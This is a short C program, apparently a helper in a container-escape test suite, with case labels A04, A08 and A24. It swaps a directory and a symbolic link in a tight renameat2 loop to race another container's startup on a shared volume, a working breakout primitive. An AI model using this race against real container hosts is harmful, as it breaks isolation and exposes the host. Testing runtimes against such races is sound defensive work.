// A04, A08, A24: exchanges a directory and a symbolic link as fast as it can, in a volume that
// another container is just being started with. Ends when the file "stop" appears beside them.
#include <linux/fs.h>

#include "escape.h"

int main(int argc, char **argv) {
  if (argc < 4) return 64;  // DIRECTORY NAME OTHER
  int directory = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (directory < 0) return 1;
  printf("ready OK\n");
  fflush(stdout);
  while (faccessat(directory, "stop", F_OK, 0) < 0)
    for (int i = 0; i < 1000; ++i)
      syscall(SYS_renameat2, directory, argv[2], directory, argv[3], RENAME_EXCHANGE);
  return 0;
}
